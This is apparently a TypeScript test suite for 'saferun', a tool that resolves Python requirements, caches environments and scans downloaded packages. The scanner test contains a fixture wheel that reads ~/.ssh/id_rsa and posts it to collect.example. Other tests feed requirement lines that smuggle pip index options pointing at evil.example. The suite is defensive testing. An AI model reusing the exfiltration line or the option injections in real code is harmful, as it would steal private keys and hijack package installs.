import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { test } from 'node:test';
import { envKey, findEnv, listEnvs, pruneEnvs, startEnvBuild } from '../../src/packages/env-cache.js';
import { inspectDistributions, distributionOf } from '../../src/packages/inspect.js';
import { explainPipFailure } from '../../src/packages/pip-errors.js';
import { indexAllowRules, DEFAULT_INDEX_URL } from '../../src/packages/prepare.js';
import { lockFileLines, readPackageRequest, requirementsFileLines } from '../../src/packages/requirements-source.js';
import { SaferunError } from '../../src/errors.js';
import { wheel } from '../support/wheels.js';

function scratch(): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'saferun-pkg-'));
  process.once('exit', () => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

test('requirements come from inline metadata first, then a lock, then requirements.txt, then pyproject, plus --with', () => {
  const dir = scratch();
  const script = path.join(dir, 'tool.py');
  writeFileSync(script, '# /// script\n# dependencies = ["rich==13.7.1", "httpx>=0.27"]\n# ///\nimport rich\n');
  writeFileSync(path.join(dir, 'requirements.txt'), 'requests==2.32.3\n');
  assert.deepEqual(readPackageRequest({ script, workdir: dir, withSpecs: ['tqdm'] })?.lines, ['rich==13.7.1', 'httpx>=0.27', 'tqdm']);
  writeFileSync(script, 'import requests\n');
  assert.deepEqual(readPackageRequest({ script, workdir: dir, withSpecs: [] })?.lines, ['requests==2.32.3']);
  rmSync(path.join(dir, 'requirements.txt'));
  writeFileSync(path.join(dir, 'pyproject.toml'), '[project]\nname = "x"\ndependencies = ["click>=8"]\n');
  assert.deepEqual(readPackageRequest({ script, workdir: dir, withSpecs: [] })?.lines, ['click>=8']);
  rmSync(path.join(dir, 'pyproject.toml'));
  assert.equal(readPackageRequest({ script, workdir: dir, withSpecs: [] }), undefined);
});

test('a requirements file keeps markers, extras and hashes, takes --index-url, and refuses options that would reach pip', () => {
  const parsed = requirementsFileLines('# comment\nrequests[socks]==2.32.3 ; python_version >= "3.8" \\\n    --hash=sha256:' + 'a'.repeat(64) + '\n-i https://idx.example/simple\n');
  assert.deepEqual(parsed.lines, [`requests[socks]==2.32.3 ; python_version >= "3.8"      --hash=sha256:${'a'.repeat(64)}`]);
  assert.equal(parsed.indexUrl, 'https://idx.example/simple');
  assert.throws(() => requirementsFileLines('--extra-index-url https://evil.example/simple\nfoo\n'), SaferunError);
  assert.throws(() => requirementsFileLines('-r other.txt\n'), /not supported/);
});

test('a requirement that is really an option is refused, wherever it comes from', () => {
  const dir = scratch();
  const script = path.join(dir, 'x.py');
  writeFileSync(script, '# /// script\n# dependencies = ["--index-url=http://evil.example/simple"]\n# ///\n');
  assert.throws(() => readPackageRequest({ script, workdir: dir, withSpecs: [] }), /not a requirement/);
  writeFileSync(script, 'print(1)\n');
  assert.throws(() => readPackageRequest({ script, workdir: dir, withSpecs: ['x\n--index-url http://evil'] }), /one line/);
});

test('lock files give exact pins with their hashes, and leave out the project itself and dev packages', () => {
  const uv = `version = 1\n[[package]]\nname = "me"\nversion = "0.1"\nsource = { virtual = "." }\n\n[[package]]\nname = "idna"\nversion = "3.7"\nsource = { registry = "https://pypi.org/simple" }\nsdist = { url = "https://x/idna-3.7.tar.gz", hash = "sha256:${'b'.repeat(64)}" }\nwheels = [{ url = "https://x/idna-3.7-py3-none-any.whl", hash = "sha256:${'c'.repeat(64)}" }]\n`;
  assert.deepEqual(lockFileLines(uv, 'uv.lock'), [`idna==3.7 --hash=sha256:${'c'.repeat(64)} --hash=sha256:${'b'.repeat(64)}`]);
  const pipfile = JSON.stringify({ default: { six: { version: '==1.16.0', hashes: [`sha256:${'d'.repeat(64)}`] } }, develop: { pytest: { version: '==8' } } });
  assert.deepEqual(lockFileLines(pipfile, 'Pipfile.lock'), [`six==1.16.0 --hash=sha256:${'d'.repeat(64)}`]);
  assert.throws(() => lockFileLines('{nope', 'Pipfile.lock'), /not valid JSON/);
});

test('the index hosts the download sandbox may reach follow the index URL', () => {
  assert.deepEqual(indexAllowRules(DEFAULT_INDEX_URL), ['pypi.org:443', 'files.pythonhosted.org:443']);
  assert.deepEqual(indexAllowRules('http://127.0.0.1:8080/simple/'), ['127.0.0.1:8080']);
  assert.deepEqual(indexAllowRules('https://idx.example.org/simple/'), ['idx.example.org:443']);
  assert.throws(() => indexAllowRules('ftp://x/'), /http or https/);
});

test('pip failures become one sentence naming the package', () => {
  assert.match(explainPipFailure('ERROR: Could not find a version that satisfies the requirement nosuchpkg (from versions: none)\nERROR: No matching distribution found for nosuchpkg\n', 'download').message, /package nosuchpkg: the index has no distribution/);
  assert.equal(explainPipFailure("ERROR: THESE PACKAGES DO NOT MATCH THE HASHES FROM THE REQUIREMENTS FILE.\n    demo==1.0 from http://127.0.0.1/files/demo-1.0-py3-none-any.whl:\n        Expected sha256 aaaa\n             Got    bbbb\n", 'download').kind, 'hash-mismatch');
  assert.equal(explainPipFailure("WARNING: Retrying (Retry(total=0...)) after connection broken by 'ProxyError('Cannot connect to proxy.')'\nERROR: No matching distribution found for demo\n", 'download').kind, 'index-unreachable');
  assert.equal(explainPipFailure('ERROR: Cannot install a==1 and b==2 because these package versions have conflicting dependencies.\nERROR: ResolutionImpossible\n', 'download').kind, 'conflict');
  assert.equal(explainPipFailure('ERROR: x-1.0-cp312-cp312-win_amd64.whl is not a supported wheel on this platform.\n', 'install').kind, 'platform');
  const build = explainPipFailure('Processing /saferun/dists/bad-1.0.tar.gz\n  error: subprocess-exited-with-error\n  × python setup.py bdist_wheel did not run successfully.\n', 'install');
  assert.equal(build.kind, 'build-failed');
  assert.match(build.message, /bad-1\.0\.tar\.gz/);
});

test('an environment is used only once complete; a build that is discarded or died leaves nothing usable', () => {
  const root = scratch();
  const key = envKey({ image: 'img:1', lines: ['b', 'a'], indexUrl: 'u', onlyBinary: false });
  assert.equal(key, envKey({ image: 'img:1', lines: ['a', 'b'], indexUrl: 'u', onlyBinary: false }));
  assert.notEqual(key, envKey({ image: 'img:2', lines: ['a', 'b'], indexUrl: 'u', onlyBinary: false }));
  const build = startEnvBuild(key, root);
  writeFileSync(path.join(build.siteDir, 'mod.py'), 'x = 1\n');
  assert.equal(findEnv(key, root), undefined, 'a build in progress is never found');
  const discarded = startEnvBuild(key, root);
  discarded.discard();
  const env = build.commit({ version: 1, key, image: 'img:1', requirements: ['a', 'b'], indexUrl: 'u', onlyBinary: false, createdAt: new Date().toISOString(), packages: [] });
  assert.equal(findEnv(key, root)?.sitePath, env.sitePath);
  assert.deepEqual(readdirSync(root), [key]);
  // a damaged record is not an environment
  writeFileSync(path.join(root, key, 'env.json'), '{');
  assert.equal(findEnv(key, root), undefined);
  // a build left by a dead process is pruned, and so is the damaged one
  mkdirSync(path.join(root, `.build-${key}-999999999-abcdef`));
  assert.equal(pruneEnvs(5, root).length, 2);
  assert.deepEqual(readdirSync(root), []);
  assert.deepEqual(listEnvs(root), []);
});

test('downloaded distributions are inspected: hidden exfiltration is high and named by file; a clean one is low', async () => {
  const dir = scratch();
  const clean = wheel('tidyfmt', '1.0.0', { 'tidyfmt/__init__.py': 'def fmt(s):\n    return s.strip()\n' });
  const evil = wheel('tidyfmt-extras', '0.3.1', {
    'tidyfmt_extras/__init__.py': 'import os, urllib.request, base64\nurllib.request.urlopen("http://collect.example/u", data=base64.b64encode(open(os.path.expanduser("~/.ssh/id_rsa"),"rb").read()))\n',
  });
  writeFileSync(path.join(dir, clean.file), clean.bytes);
  writeFileSync(path.join(dir, evil.file), evil.bytes);
  writeFileSync(path.join(dir, 'broken-1.0.tar.gz'), 'not gzip at all');
  // a bomb: one entry that inflates past the scan's cap is never unpacked, and not vouched for
  const bomb = wheel('padlib', '0.1.0', { 'padlib/__init__.py': '#'.repeat(6 * 1024 * 1024) });
  writeFileSync(path.join(dir, bomb.file), bomb.bytes);
  const reports = await inspectDistributions(dir);
  const byFile = new Map(reports.map((r) => [r.file, r]));
  const bad = byFile.get(evil.file)!;
  assert.ok(bad.riskLevel === 'high' || bad.riskLevel === 'critical', JSON.stringify(bad.findings.map((f) => f.ruleId)));
  assert.ok(bad.findings.some((f) => f.file.startsWith(`${evil.file}!`)), 'the finding names the wheel and the file inside it');
  assert.equal(bad.name, 'tidyfmt_extras');
  assert.match(bad.sha256, /^[0-9a-f]{64}$/);
  assert.ok(byFile.get('broken-1.0.tar.gz')!.findings.some((f) => f.ruleId === 'package-uninspectable'));
  assert.ok(bomb.bytes.length < 100_000, 'the fixture is small on disk');
  assert.equal(byFile.get(bomb.file)!.riskLevel, 'high');
  assert.ok(byFile.get(bomb.file)!.findings.some((f) => f.ruleId === 'package-uninspectable' && /larger than/.test(f.message)));
  assert.deepEqual(distributionOf('Foo_Bar-1.2.3-py3-none-any.whl'), { name: 'Foo_Bar', version: '1.2.3' });
  assert.deepEqual(distributionOf('foo-bar-1.0.tar.gz'), { name: 'foo-bar', version: '1.0' });
});
